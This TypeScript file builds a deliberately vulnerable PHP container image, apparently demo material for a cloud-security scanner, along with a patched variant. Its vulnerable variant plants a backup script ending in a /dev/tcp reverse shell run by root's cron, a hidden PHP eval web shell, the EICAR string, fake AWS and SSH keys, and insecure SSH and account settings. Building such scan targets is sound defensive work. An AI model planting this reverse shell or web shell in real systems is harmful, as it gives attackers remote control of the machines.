/**
 * `legacy-portal:1.0`: a PHP web portal on Alpine 3.18 that carries the samples the cloud-security engine
 * looks for, as real files and config rather than flags, so that a `--engine cloud` scan and the console's
 * 基线检查 / 敏感信息 / 恶意样本 tabs have something true to show:
 *
 * - malicious samples: the EICAR test file in the upload directory, a reverse-shell "backup" script run by
 *   root's crontab, and a PHP one-liner web shell hidden as `.cache.php`;
 * - secrets: root's SSH private key and an AWS access key pair in the app's config (both generated here
 *   from fixed seeds — they are not real credentials, and the access key is not AWS's documentation
 *   example, which the secret rules allow-list);
 * - baseline risks: a database password in `Env`, no `USER` (runs as root), SSH (22/tcp) exposed and
 *   started by `Cmd`, sshd allowing root and password logins, an account with an empty password, a setuid
 *   helper owned by root;
 * - vulnerable apk packages: the Alpine 3.18.0 base and curl 8.1.2 that the other Alpine demo images use.
 *
 * The `patched` variant removes every one of those (no SSH, no samples, no keys, a non-root user with a
 * health check, the password read from a file) and upgrades the packages to 3.18.8 and curl 8.5.0.
 */
import type { ImageFileSpec, ImageSpec } from '../image/image-spec';
import { ALPINE_318, ALPINE_BASE_PACKAGES, type ApkVersions, NGINX_ALPINE_EXTRAS } from './alpine-data';
import { alpineAccounts, type ExtraAccount } from './alpine-files';
import { alpineBaseLayer, alpineCmdStep, apkAddLayer, apkDemoPackages, pick } from './alpine-images';
import { later, meta, PATH_ENV, run } from './build-steps';
import { stableBytes } from './formats/stable-hash';
import { epochDay, lines, stub } from './os-files';
import { variantOf } from './os-recipes';
import type { DemoImageRecipe, DemoVariant } from './types';

/** The image's name and tag. */
export const LEGACY_PORTAL = 'legacy-portal:1.0';

const PHP_VERSION = { vulnerable: '7.4.33', patched: '8.2.13' };
const APP = 'var/www';

/** Where each sample lives in the vulnerable variant (paths relative to the image root). */
export const LEGACY_PORTAL_PATHS = {
  eicar: `${APP}/uploads/eicar.com`,
  reverseShell: 'usr/local/bin/backup.sh',
  crontab: 'etc/crontabs/root',
  webShell: `${APP}/html/.cache.php`,
  privateKey: 'root/.ssh/id_rsa',
  awsConfig: `${APP}/config/aws.ini`,
  setuid: 'usr/local/bin/php-helper',
  sshdConfig: 'etc/ssh/sshd_config',
  shadow: 'etc/shadow',
} as const;

/** The account whose `etc/shadow` password field is empty in the vulnerable variant. */
export const EMPTY_PASSWORD_ACCOUNT = 'deploy';

/** curl and its libraries, as nginx:1.25-alpine installs them (the vulnerable/patched pins are shared). */
const CURL_PACKAGES = ['curl', 'libcurl', 'nghttp2-libs', 'brotli-libs', 'libidn2', 'libunistring'];

function extras(variant: DemoVariant): ApkVersions {
  return pick(NGINX_ALPINE_EXTRAS[variant], CURL_PACKAGES);
}

// --- generated stand-ins for credentials (fixed seeds: deterministic, never real) -------------------------

const UPPER32 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
const BASE64 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
const fromAlphabet = (seed: string, length: number, alphabet: string) =>
  Array.from(stableBytes(seed, length), (b) => alphabet[b % alphabet.length]).join('');

/** A made-up AWS access key id: `AKIA` and 16 upper-case letters and digits (not AWS's documented example). */
export const FAKE_AWS_ACCESS_KEY_ID = `AKIA${fromAlphabet('legacy-portal/aws-access-key-id', 16, UPPER32)}`;
/** A made-up 40-character AWS secret access key. */
export const FAKE_AWS_SECRET_ACCESS_KEY = fromAlphabet('legacy-portal/aws-secret-access-key', 40, BASE64);
/** The database password baked into `Env` (made up). */
export const DB_PASSWORD = 'Portal#2019!db';

/**
 * A PEM block shaped like a 2048-bit PKCS#1 RSA private key: the DER starts as a real one does
 * (SEQUENCE of 1192 bytes, version 0, a 257-byte modulus…), the rest is deterministic noise. It is not a
 * usable key.
 */
function fakeRsaPrivateKey(seed: string): string {
  const header = [0x30, 0x82, 0x04, 0xa4, 0x02, 0x01, 0x00, 0x02, 0x82, 0x01, 0x01, 0x00];
  const der = new Uint8Array(4 + 0x04a4);
  der.set(header);
  der.set(stableBytes(seed, der.length - header.length), header.length);
  const body = btoa(String.fromCharCode(...der));
  const rows = body.match(/.{1,64}/g) ?? [];
  return lines(['-----BEGIN RSA PRIVATE KEY-----', ...rows, '-----END RSA PRIVATE KEY-----']);
}

// The EICAR test string, assembled at run time so this source file is not itself the test file.
const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-', 'TEST-FILE!$H+H*'].join('');

// --- files -------------------------------------------------------------------------------------------------

const DEPLOY: ExtraAccount = {
  name: EMPTY_PASSWORD_ACCOUNT,
  uid: 1000,
  gid: 1000,
  home: '/home/deploy',
  shell: '/bin/ash',
  gecos: 'Deploy user',
};

/**
 * passwd/group/shadow: alpine-baselayout's accounts plus `deploy` (vulnerable: created with `passwd -d`,
 * so its shadow password field is empty) or plus `www-data` (patched: the PHP user, locked).
 */
function portalAccounts(variant: DemoVariant, created: string): ImageFileSpec[] {
  if (variant === 'patched') {
    // alpine-baselayout already has the www-data group (82): add only the user.
    const files = alpineAccounts(created, [
      { name: 'www-data', uid: 82, gid: 82, home: '/home/www-data', shell: '/sbin/nologin', gecos: 'Linux User,,,' },
    ]);
    return files.map((f) =>
      f.path === 'etc/group' && typeof f.content === 'string'
        ? {
            ...f,
            content: f.content
              .replace('www-data:x:82:www-data\n', '')
              .replace('www-data:x:82:\n', 'www-data:x:82:www-data\n'),
          }
        : f,
    );
  }
  return alpineAccounts(created, [DEPLOY]).map((f) =>
    f.path === 'etc/shadow' && typeof f.content === 'string'
      ? { ...f, content: f.content.replace(/^deploy:!:\d+:0:::::$/m, `deploy::${epochDay(created)}:0:99999:7:::`) }
      : f,
  );
}

const SSHD_CONFIG = lines([
  '#\t$OpenBSD: sshd_config,v 1.104 2021/07/02 05:11:21 dtucker Exp $',
  '',
  '# Legacy portal: the vendor logs in as root over SSH to deploy.',
  'Port 22',
  'AddressFamily any',
  'ListenAddress 0.0.0.0',
  '',
  'HostKey /etc/ssh/ssh_host_ed25519_key',
  '',
  'PermitRootLogin yes',
  'PasswordAuthentication yes',
  'PubkeyAuthentication yes',
  'AuthorizedKeysFile\t.ssh/authorized_keys',
  '',
  'AllowTcpForwarding no',
  'GatewayPorts no',
  'X11Forwarding no',
  '',
  'Subsystem\tsftp\t/usr/lib/ssh/sftp-server',
]);

const BACKUP_SCRIPT = {
  vulnerable: lines([
    '#!/bin/bash',
    '# Nightly backup of the portal uploads.',
    'tar czf /tmp/uploads.tgz /var/www/uploads 2>/dev/null',
    '# "remote support" channel left by the previous contractor',
    'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
  ]),
  patched: lines([
    '#!/bin/sh',
    '# Nightly backup of the portal uploads.',
    'set -eu',
    'mkdir -p /var/backups',
    'tar czf "/var/backups/uploads-$(date +%F).tgz" /var/www/uploads',
  ]),
};

const CRONTAB = {
  vulnerable: lines([
    '# do daily/weekly/monthly maintenance',
    '# min\thour\tday\tmonth\tweekday\tcommand',
    '*/15\t*\t*\t*\t*\trun-parts /etc/periodic/15min',
    '0\t*\t*\t*\t*\trun-parts /etc/periodic/hourly',
    '0\t2\t*\t*\t*\trun-parts /etc/periodic/daily',
    `*/30\t*\t*\t*\t*\t/${LEGACY_PORTAL_PATHS.reverseShell} >/dev/null 2>&1`,
  ]),
  patched: lines([
    '# do daily/weekly/monthly maintenance',
    '# min\thour\tday\tmonth\tweekday\tcommand',
    '*/15\t*\t*\t*\t*\trun-parts /etc/periodic/15min',
    '0\t*\t*\t*\t*\trun-parts /etc/periodic/hourly',
    '0\t2\t*\t*\t*\trun-parts /etc/periodic/daily',
    `30\t3\t*\t*\t*\t/${LEGACY_PORTAL_PATHS.reverseShell}`,
  ]),
};

const INDEX_PHP = lines([
  '<?php',
  "require __DIR__ . '/../config/bootstrap.php';",
  '',
  "$page = $_GET['page'] ?? 'home';",
  "if (!in_array($page, ['home', 'news', 'contact'], true)) {",
  '    http_response_code(404);',
  "    $page = 'home';",
  '}',
  "include __DIR__ . '/pages/' . $page . '.php';",
]);

const HOME_PHP = lines(['<?php', "echo '<h1>Legacy Portal</h1>';", "echo '<p>Welcome to the customer portal.</p>';"]);

const BOOTSTRAP_PHP = {
  vulnerable: lines([
    '<?php',
    "$ini = parse_ini_file(__DIR__ . '/aws.ini', true);",
    "$db = new PDO('mysql:host=db;dbname=portal', 'portal', getenv('DB_PASSWORD'));",
  ]),
  patched: lines([
    '<?php',
    "$db = new PDO('mysql:host=db;dbname=portal', 'portal', trim(file_get_contents(getenv('DB_PASSWORD_FILE'))));",
  ]),
};

const AWS_INI = lines([
  '; S3 bucket for customer uploads',
  '[default]',
  'region = ap-southeast-1',
  'bucket = legacy-portal-uploads',
  `aws_access_key_id = ${FAKE_AWS_ACCESS_KEY_ID}`,
  `aws_secret_access_key = ${FAKE_AWS_SECRET_ACCESS_KEY}`,
]);

/** The line of {@link AWS_INI} that holds the access key id (1-based). */
export const AWS_ACCESS_KEY_LINE = 5;

const WEB_SHELL = "<?php @eval($_POST['x']); ?>\n";

function portalSpec(variant: DemoVariant): ImageSpec {
  const base = ALPINE_318[variant];
  const created = later(base.created, 20);
  const php = PHP_VERSION[variant];
  const vulnerable = variant === 'vulnerable';
  const apkFiles: ImageFileSpec[] = [
    ...portalAccounts(variant, base.created),
    { path: LEGACY_PORTAL_PATHS.crontab, content: CRONTAB[variant], mode: 0o600 },
    ...(vulnerable
      ? [
          { path: 'home/deploy', type: 'dir', uid: 1000, gid: 1000 } as ImageFileSpec,
          { path: 'etc/ssh', type: 'dir' } as ImageFileSpec,
          { path: LEGACY_PORTAL_PATHS.sshdConfig, content: SSHD_CONFIG },
          stub('usr/local/sbin/sshd', 'OpenSSH_7.4p1 (built from source), OpenSSL 3.1.0'),
        ]
      : []),
  ];
  const phpFiles: ImageFileSpec[] = [
    stub('usr/local/bin/php', `PHP ${php} (cli) (NTS)`),
    {
      path: 'usr/local/etc/php/php.ini',
      content: lines([
        '[PHP]',
        `expose_php = ${vulnerable ? 'On' : 'Off'}`,
        `display_errors = ${vulnerable ? 'On' : 'Off'}`,
        'upload_max_filesize = 20M',
        `disable_functions = ${vulnerable ? '' : 'exec,passthru,shell_exec,system,proc_open,popen'}`,
      ]),
    },
    {
      ...stub(LEGACY_PORTAL_PATHS.setuid, 'php-helper 1.2: restarts php and fixes upload permissions'),
      mode: vulnerable ? 0o4755 : 0o755,
      uid: 0,
      gid: 0,
    },
  ];
  const appFiles: ImageFileSpec[] = [
    { path: `${APP}/html/index.php`, content: INDEX_PHP },
    { path: `${APP}/html/pages/home.php`, content: HOME_PHP },
    { path: `${APP}/config/bootstrap.php`, content: BOOTSTRAP_PHP[variant] },
    { path: `${APP}/uploads`, type: 'dir', uid: 82, gid: 82 },
    { path: LEGACY_PORTAL_PATHS.reverseShell, content: BACKUP_SCRIPT[variant], mode: 0o755 },
    ...(vulnerable
      ? [
          { path: LEGACY_PORTAL_PATHS.webShell, content: WEB_SHELL, uid: 82, gid: 82 },
          { path: LEGACY_PORTAL_PATHS.awsConfig, content: AWS_INI, mode: 0o640 },
          { path: LEGACY_PORTAL_PATHS.eicar, content: EICAR, uid: 82, gid: 82 },
          { path: 'root/.ssh', type: 'dir', mode: 0o700 } as ImageFileSpec,
          {
            path: LEGACY_PORTAL_PATHS.privateKey,
            content: fakeRsaPrivateKey('legacy-portal/root-id-rsa'),
            mode: 0o600,
          },
        ]
      : []),
  ];
  const cmd = vulnerable
    ? ['/bin/sh', '-c', '/usr/local/sbin/sshd && crond && php -S 0.0.0.0:80 -t /var/www/html']
    : ['php', '-S', '0.0.0.0:8080', '-t', '/var/www/html'];
  const env = vulnerable
    ? [PATH_ENV, `PHP_VERSION=${php}`, 'APP_ENV=production', `DB_PASSWORD=${DB_PASSWORD}`]
    : [PATH_ENV, `PHP_VERSION=${php}`, 'APP_ENV=production', 'DB_PASSWORD_FILE=/run/secrets/db_password'];
  const ports: Record<string, Record<string, never>> = vulnerable ? { '22/tcp': {}, '80/tcp': {} } : { '8080/tcp': {} };
  const apkCommand = vulnerable
    ? '/bin/sh -c adduser -D -u 1000 -s /bin/ash -g "Deploy user" deploy && passwd -d deploy && apk add --no-cache curl && ./build-openssh.sh'
    : '/bin/sh -c adduser -u 82 -D -S -G www-data www-data && apk add --no-cache curl';
  return {
    created,
    config: {
      Env: env,
      Cmd: cmd,
      WorkingDir: `/${APP}/html`,
      ...(vulnerable ? {} : { User: 'www-data' }),
      ExposedPorts: ports,
      ...(vulnerable
        ? {}
        : {
            Healthcheck: {
              Test: ['CMD-SHELL', 'wget -qO- http://127.0.0.1:8080/ || exit 1'],
              Interval: 30_000_000_000,
              Timeout: 5_000_000_000,
              Retries: 3,
            },
          }),
      Labels: { 'org.opencontainers.image.title': 'legacy-portal', 'org.opencontainers.image.version': '1.0' },
    },
    layers: [
      alpineBaseLayer(base),
      alpineCmdStep(base.created),
      meta(created, `ENV PHP_VERSION=${php}`),
      ...(vulnerable
        ? [meta(created, `ENV DB_PASSWORD=${DB_PASSWORD}`)]
        : [meta(created, 'ENV DB_PASSWORD_FILE=/run/secrets/db_password')]),
      apkAddLayer(base, extras(variant), `RUN ${apkCommand} # buildkit`, created, apkFiles),
      run(created, `RUN /bin/sh -c ./build-php.sh ${php} # buildkit`, phpFiles),
      run(created, 'COPY portal/ /var/www/ # buildkit', appFiles),
      meta(created, `WORKDIR /${APP}/html`),
      ...(vulnerable
        ? [meta(created, 'EXPOSE map[22/tcp:{} 80/tcp:{}]')]
        : [
            meta(created, 'USER www-data'),
            meta(created, 'EXPOSE map[8080/tcp:{}]'),
            meta(
              created,
              'HEALTHCHECK &{["CMD-SHELL" "wget -qO- http://127.0.0.1:8080/ || exit 1"] "30s" "5s" "0s" \'\\x03\'}',
            ),
          ]),
      meta(created, `CMD ${JSON.stringify(cmd).replace(/,/g, ' ')}`),
    ],
  };
}

/** legacy-portal:1.0 (see the module comment). */
export const legacyPortalRecipe: DemoImageRecipe = {
  name: LEGACY_PORTAL,
  description:
    'A legacy PHP portal on Alpine 3.18 carrying cloud-engine samples: EICAR, a reverse shell in cron, a PHP web shell, an SSH private key, an AWS key, a password in ENV, root with SSH exposed, an empty-password account and a setuid helper.',
  spec: (options) => portalSpec(variantOf(options)),
  packages: (options) => {
    const variant = variantOf(options);
    const base = ALPINE_318[variant];
    return apkDemoPackages(
      { ...pick(base.versions, ALPINE_BASE_PACKAGES), ...extras(variant) },
      later(base.created, 20),
    );
  },
};
